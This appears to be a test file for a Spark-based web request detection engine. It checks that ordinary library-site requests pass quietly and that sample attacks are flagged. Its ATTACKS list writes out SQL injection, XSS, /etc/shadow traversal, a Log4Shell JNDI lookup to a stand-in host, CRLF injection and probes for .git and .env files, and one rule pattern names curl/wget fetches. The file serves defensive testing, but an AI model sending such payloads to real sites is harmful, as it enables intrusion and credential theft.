"""A reading room's requests: ordinary ones leave nothing in the log, and each kind of attack leaves its own rows."""

import json
import random
import re._constants as K
import re._parser as parser
from urllib.parse import quote_plus, urlencode

from pyspark.sql import functions as F
from test_detection import requests, types

from reqwatch.config import EngineConfig
from reqwatch.functions import fixed, patterns
from reqwatch.operators import detect
from reqwatch.sources import adapters

AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"


def visit(path, query="", **more):
    return {"path": path, "query_string": query, "url": f"https://reading.example.org{path}" + (f"?{query}" if query else ""), "user_agent": AGENT} | more


def posted(path, kind="application/x-www-form-urlencoded", **fields):
    body = urlencode(fields) if "form" in kind else json.dumps(fields)
    return visit(path, method="POST", content_type=kind, body=body, content_length=len(body))


ORDINARY = [
    visit("/"), visit("/opening-hours"), visit("/catalogue", "author=Le+Guin&year=1974&order=title"), visit("/catalogue/shelf/QA76"), visit("/catalogue", "q=" + quote_plus("a select bibliography of the union of writers")),
    posted("/loans", isbn="978-0-06-051275-0", copies="1"), posted("/notes", text="Chapter 4, p. 112: see also the table (left column)."), posted("/reviews", "application/json", stars=4, text="Slow start, fine ending; I'd read it again."),
    visit("/events", "from=2024-05-01&to=2024-05-31"), visit("/media/covers/small.webp"), posted("/messages", to="desk@reading.example.org", text="Please hold the atlas until Friday & thank you!"),
]


def test_ordinary_requests(spark):
    assert types(detect.log_rows(requests(spark, *ORDINARY))) == {}


def test_settings_for_a_site_of_its_own(spark):
    """Served paths and fields known to hold numbers can be taken out; the rest is still found."""
    rows = [visit("/branches/backup/shelves"), posted("/members", "application/json", mobile="9876543210", note="plain"), posted("/pages/7", body="more"), posted("/members", "application/json", mobile="1", note="<script>alert(5)</script>")]
    served = EngineConfig(custom_rules=tuple(r for r in fixed.CUSTOM_RULES if r[0] != "Backup Directory Probe"), safe_paths=("mobile",), content_paths=("pages/*",))
    shipped, own = types(detect.log_rows(requests(spark, *rows))), types(detect.log_rows(requests(spark, *rows), served))
    assert {"[custom] Mobile Number Detected"} <= shipped[2] and 2 not in own
    assert "[custom] Backup Directory Probe" in shipped[1] and "[custom] Backup Directory Probe" not in own.get(1, set())
    assert "[middleware] XSS Script Tag" in own[4]


ATTACKS = [
    (visit("/catalogue", "q=" + quote_plus("x' UNION SELECT card, pin FROM members")), "[middleware] SQL Injection UNION"),
    (posted("/notes", text="<SCRIPT src=//e.example></SCRIPT>"), "[middleware] XSS Script Tag"),
    (visit("/media", "cover=" + quote_plus("../../../../etc/shadow")), "[middleware] Directory Traversal"),
    (visit("/", headers={"x-branch": ["${jndi:rmi://e.example/o}"]}), "Log4"),
    (visit("/media", "cover=front%00.webp"), "Null Byte"),
    (visit("/go", "to=b%0d%0aX-Copy:+1"), "CRLF"),
    (visit("/catalogue", "q=UNION/*shelf*/SELECT"), "[middleware] SQL Comment Evasion"),
    (visit("/catalogue", "q=%2541%2542%2543"), "[middleware] Double URL Encoding"),
    (visit("/", user_agent="Nikto/2.5.0"), "[user-agent]"),
    (visit("/.git/config"), "[probe]"),
]


def test_attacks(spark):
    got = types(detect.log_rows(requests(spark, *(row for row, _ in ATTACKS))))
    assert [label for k, (_, label) in enumerate(ATTACKS, 1) if not any(label in t for t in got.get(k, set()))] == []


def test_a_path_that_is_probed_is_not_scanned(spark):
    got = types(detect.log_rows(requests(spark, visit("/.env"), visit("/.env", "q=" + quote_plus("1 UNION SELECT 2")))))
    assert got[1] == {"[probe] Environment File"} and "[middleware] SQL Injection UNION" in got[2]


def test_limits_and_paths(spark):
    bad = "q=" + quote_plus("../../../etc/shadow <script>alert(9)</script> x UNION SELECT y FROM z")
    rows = [visit("/desk", bad), visit("/notes/7", bad), visit("/elsewhere", bad)]
    ordered = lambda config: {k: [t for _, t in sorted((r.pos, r.type) for r in found if r.request_id == k)] for found in [detect.log_rows(requests(spark, *rows), config).collect()] for k in (1, 2, 3)}
    every, few = ordered(EngineConfig()), ordered(EngineConfig(max_detections=2))
    assert all(len(v) > 3 for v in every.values()) and few == {k: v[:2] for k, v in every.items()}
    assert set(types(detect.log_rows(requests(spark, *rows), EngineConfig(only_paths=("desk", "notes/*"))))) == {1, 2}
    content = detect.log_rows(requests(spark, *rows), EngineConfig(content_paths=("notes/*",)))
    assert {r.threat_level for r in content.where("request_id = 2").collect()} == {"high"} < {r.threat_level for r in content.where("request_id = 1").collect()}


_SHORT = {K.CATEGORY_DIGIT: "7", K.CATEGORY_WORD: "k", K.CATEGORY_SPACE: " ", K.CATEGORY_NOT_DIGIT: "k", K.CATEGORY_NOT_WORD: " ", K.CATEGORY_NOT_SPACE: "k"}


def _member(items, r):
    """A character of a class."""
    if items[0][0] == K.NEGATE:
        barred = lambda c: any(kind == K.LITERAL and chr(v) == c or kind == K.RANGE and v[0] <= ord(c) <= v[1] or kind == K.CATEGORY and (v == K.CATEGORY_SPACE and c == " " or v in (K.CATEGORY_WORD, K.CATEGORY_DIGIT) and c.isalnum()) for kind, v in items[1:])
        return next(c for c in "k7 ;_-" if not barred(c))
    kind, v = r.choice(items)
    return chr(v) if kind == K.LITERAL else chr(r.randint(*v)) if kind == K.RANGE else _SHORT[v]


def sample(parsed, r):
    """A text that an expression matches, as short as it may be; looks ahead and behind are passed over."""
    out = []
    for kind, v in parsed:
        if kind == K.LITERAL:
            out.append(chr(v))
        elif kind == K.NOT_LITERAL:
            out.append("k" if chr(v) != "k" else "m")
        elif kind == K.ANY:
            out.append("k")
        elif kind == K.IN:
            out.append(_member(v, r))
        elif kind == K.BRANCH:
            out.append(sample(r.choice(v[1]), r))
        elif kind == K.SUBPATTERN:
            out.append(sample(v[-1], r))
        elif kind in (K.MAX_REPEAT, K.MIN_REPEAT, K.POSSESSIVE_REPEAT):
            out += [sample(v[2], r) for _ in range(v[0])]
        elif kind == K.ATOMIC_GROUP:
            out.append(sample(v, r))
    return "".join(out)


def test_every_rule_finds_its_own_and_misses_broken_texts(spark):
    """For each rule texts made from its expression: most match it, and none does once what it needs is broken up."""
    rules = [*patterns.default_rules(), *patterns.evasion_rules(), *patterns.custom_rules()[0]]
    rows = []
    for k, rule in enumerate(rules):
        r = random.Random(k)
        for _ in range(6):
            text = sample(parser.parse(rule.expression), r)
            rows.append((k, text, "\u00b7".join(text)))
    df = spark.createDataFrame(rows, "rule int, good string, broken string")
    hit = lambda c: F.coalesce(*[F.when(F.col("rule") == k, F.col(c).rlike(x.exists)) for k, x in enumerate(rules)])
    got = df.select("rule", hit("good").alias("g"), hit("broken").alias("b")).groupBy("rule").agg(F.max("g").alias("g"), F.sum(F.col("b").cast("int")).alias("b")).collect()
    looks = {k for k, x in enumerate(rules) if "(?!" in x.expression or "(?=" in x.expression or "(?<" in x.expression or "^" in x.expression}
    unmatched = {x.rule for x in got if not x.g}
    assert unmatched <= looks and len(unmatched) <= len(rules) // 20, [rules[k].label for k in unmatched - looks]
    needy = [x for x in got if rules[x.rule].needs and max(map(len, rules[x.rule].needs)) > 1 and min(map(len, rules[x.rule].needs)) > 1]
    assert len(needy) > 90 and not any(x.b for x in needy)


def test_required_texts_change_nothing(spark, sf_dir):
    """The cheap test before an expression never hides a match."""
    assert patterns.required_literals(r"\b(curl|wget)\s+[\"']?https?://") == ("http",) and patterns.required_literals(r"a?\d*") == ()
    assert set(patterns.required_literals(r"x(?:AB|cd)+y?")) == {"ab", "cd"} and patterns.required_literals(r"[=:]\s") in (("=", ":"), (":", "="))
    rules = [*patterns.default_rules(), *patterns.custom_rules()[0], *patterns.evasion_rules()]
    made = [(sample(parser.parse(rule.expression), random.Random(k)),) for k, rule in enumerate(rules)]
    texts = adapters.table(spark, sf_dir, "documents").select("text").union(adapters.table(spark, sf_dir, "pages").select("html")).union(spark.createDataFrame(made + [(t.upper(),) for (t,) in made], "text string"))
    hidden = [F.sum((F.col("text").rlike(r.exists) & ~detect.contains_any(F.lower("text"), list(r.needs))).cast("int")).alias(f"r{k}") for k, r in enumerate(rules) if r.needs]
    assert len(hidden) > 120 and not any(adapters.spread(texts).agg(*hidden).first())
